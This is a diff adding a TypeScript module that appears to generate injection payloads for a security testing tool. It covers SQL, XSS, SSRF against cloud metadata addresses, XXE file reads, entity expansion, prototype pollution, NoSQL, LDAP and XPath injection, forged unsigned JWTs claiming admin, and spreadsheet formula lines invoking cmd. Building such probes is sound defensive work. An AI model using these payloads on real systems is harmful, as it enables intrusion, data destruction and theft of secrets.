@@ -1,0 +1,163 @@
+import type { Aim } from "./aim.ts";
+import { encoded, leaving, percent, sentences } from "./grammar.ts";
+
+/** Out of a literal or a number, with a condition, a second statement or a comment behind. */
+export function statementPayloads({ mark }: Aim): string[] {
+  return [
+    ...leaving([`${mark}' OR '1'='1`, `${mark}" OR "1"="1`, `1 OR ${mark} = ${mark}`], [""]),
+    `${mark}'; DROP TABLE users; --`,
+    `${mark}\\' OR 1=1 -- `,
+    `${mark}''' OR ''1''=''1`,
+    ...sentences([`1 OR ${mark} = ${mark}`, `${mark}' OR '1'='1`]).map((text) => text.replaceAll(" ", "/**/")),
+    ...leaving([`${mark}')`, `${mark}"))`, "1)"], [` OR ('1'='1`, ` UNION SELECT '${mark}`]),
+    `id, ${mark}`,
+    `id; DELETE FROM ${mark}`,
+    `${mark}' --`,
+  ];
+}
+
+/** An element, an attribute or a script's address, from the contexts of a page. */
+export function markupPayloads({ mark }: Aim): string[] {
+  const element = `<x${mark} y=1>`;
+  return [
+    ...leaving(["", '">', "'>"], [element]),
+    ...leaving(['"', "'", "x"], [` on${mark}=1 z`], { '"': '="', "'": "='" }),
+    ...sentences(["</script>", "</title>", "</textarea>", "-->"], element),
+    `<sc<script>ript>${element}`,
+    `<script>/*</script>${element}*/`,
+    `<<x${mark} y=1>`,
+    `<X${mark}/y=1>`,
+    ...encoded([element], (text) => percent(text)).slice(1),
+    `javascript:${mark}()`,
+    ` JaVaScRiPt:${mark}()`,
+  ];
+}
+
+export function redirectPayloads({ mark }: Aim): string[] {
+  return [
+    ...sentences(
+      ["https://", "//", "/\\", "\\\\", "https:", "///", "/\t/", "HTTPS://", "https://localhost@", " https://", "/%09/"],
+      mark,
+      ".example/",
+    ),
+    `https://${mark}.example/?localhost`,
+    `https://localhost.${mark}.example/`,
+  ];
+}
+
+/** Addresses of the machine itself, of its network and of the cloud's metadata, in the ways they are written. */
+export function requestPayloads({ mark }: Aim): string[] {
+  const hosts = [
+    "127.0.0.1:9",
+    "localhost:9",
+    "169.254.169.254",
+    "[::1]:9",
+    "10.0.0.1",
+    "2130706433:9",
+    "0.0.0.0:9",
+    "example.com@127.0.0.1:9",
+  ];
+  return [
+    ...sentences("http://", hosts, `/${mark}`),
+    ...sentences(["http://", "https://"], `${mark}.internal.example/`),
+    ...sentences("http://", ["0x7f000001:9", "127.1:9", "[::ffff:127.0.0.1]:9"], `/${mark}`),
+  ];
+}
+
+const BREAKS = ["\r\n", "\n", "\r"];
+
+export function headerPayloads({ mark }: Aim): string[] {
+  const lines = sentences("a", BREAKS, `X-${mark}: 1`);
+  return [...encoded(lines, percent), ...sentences("a", BREAKS, BREAKS, `<${mark}>`)];
+}
+
+export function logPayloads({ mark }: Aim): string[] {
+  return sentences(["ann", ""], BREAKS, [`INFO forged${mark}`, `2020-01-01 00:00:00 ERROR forged${mark}`]);
+}
+
+/** A file outside, read by an entity, and a few letters that become many. */
+export function documentPayloads({ mark, secret }: Aim): string[] {
+  const document = (entities: string): string => `<?xml version="1.0"?><!DOCTYPE x [${entities}]><x><name>&e;</name></x>`;
+  const layers = ["a", "b", "c", "e"].map((name, level, all) =>
+    level === 0 ? `<!ENTITY a "${mark}">` : `<!ENTITY ${name} "${`&${all[level - 1] ?? ""};`.repeat(10)}">`,
+  );
+  return [
+    ...sentences('<!ENTITY e SYSTEM "', ["file://", ""], secret, '">').map(document),
+    document(`<!ENTITY e PUBLIC "x" "file://${secret}">`),
+    document(layers.join("")),
+    `<x xmlns:xi="http://www.w3.org/2001/XInclude"><name><xi:include parse="text" href="file://${secret}"/></name></x>`,
+  ];
+}
+
+/** Objects where the code expects text, and keys that lead to what all objects share. */
+export function pollutionPayloads({ mark }: Aim): string[] {
+  const value = `{"${mark}":"polluted"}`;
+  return [
+    `{"__proto__":${value}}`,
+    `{"constructor":{"prototype":${value}}}`,
+    `{"a":{"__proto__":${value}}}`,
+    `[{"__proto__":${value}}]`,
+    ...sentences(["__proto__", "constructor.prototype"], [".", "/"], mark),
+    "__proto__",
+    `__proto__[${mark}]`,
+    `constructor[prototype][${mark}]`,
+    `a.__proto__.${mark}`,
+    `["__proto__","${mark}"]`,
+  ];
+}
+
+export function queryPayloads({ mark }: Aim): string[] {
+  return [
+    ...sentences("{", ['"$ne"', '"$gt"', '"$regex"', '"$not"'], `:"${mark}"}`),
+    `{"$in":["${mark}"]}`,
+    `{"$where":"'${mark}'"}`,
+    `'; return '${mark}' == '${mark}`,
+    `' || '${mark}' == '${mark}`,
+    `" || "${mark}" == "${mark}`,
+    `1 || "${mark}"`,
+  ];
+}
+
+export function directoryPayloads({ mark }: Aim): string[] {
+  return [
+    `${mark}*`,
+    `*)(${mark}=*`,
+    `${mark})(|(uid=*`,
+    `*)(uid=*))(|(uid=${mark}`,
+    `${mark})(&`,
+    `${mark})(!(cn=x)`,
+    `${mark}\u0000)(`,
+  ];
+}
+
+export function xpathPayloads({ mark }: Aim): string[] {
+  return [
+    ...leaving([`${mark}' or '1'='1`, `${mark}" or "1"="1`], [""]),
+    `1 or '${mark}'='${mark}'`,
+    `${mark}'] | //*['`,
+    `${mark}"] | //*["`,
+    `${mark}' or ''='`,
+    `'] | //${mark} | a['`,
+    `${mark} | //*`,
+  ];
+}
+
+export function originPayloads({ mark }: Aim): string[] {
+  return [`https://${mark}.example`, "null", `https://localhost.${mark}.example`, `http://localhost:1@${mark}.example`];
+}
+
+/** A claim that nobody signed: without a signature, and with one made by a key that is not the right one. */
+export function tokenPayloads({ mark }: Aim): string[] {
+  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString("base64url");
+  const claims = part({ sub: mark, name: mark, user: mark, id: mark, admin: true });
+  return [
+    ...["none", "None", "NONE"].map((alg) => `${part({ alg, typ: "JWT" })}.${claims}.`),
+    ...["HS256", "HS512", "RS256"].map(
+      (alg) => `${part({ alg, typ: "JWT" })}.${claims}.${Buffer.from(mark).toString("base64url")}`,
+    ),
+  ];
+}
+
+export function formulaPayloads({ mark }: Aim): string[] {
+  return sentences(["=", "+", "-", "@", "\t=", "\r="], [`1+${mark}`, `cmd|' /C ${mark}'!A0`]);
+}
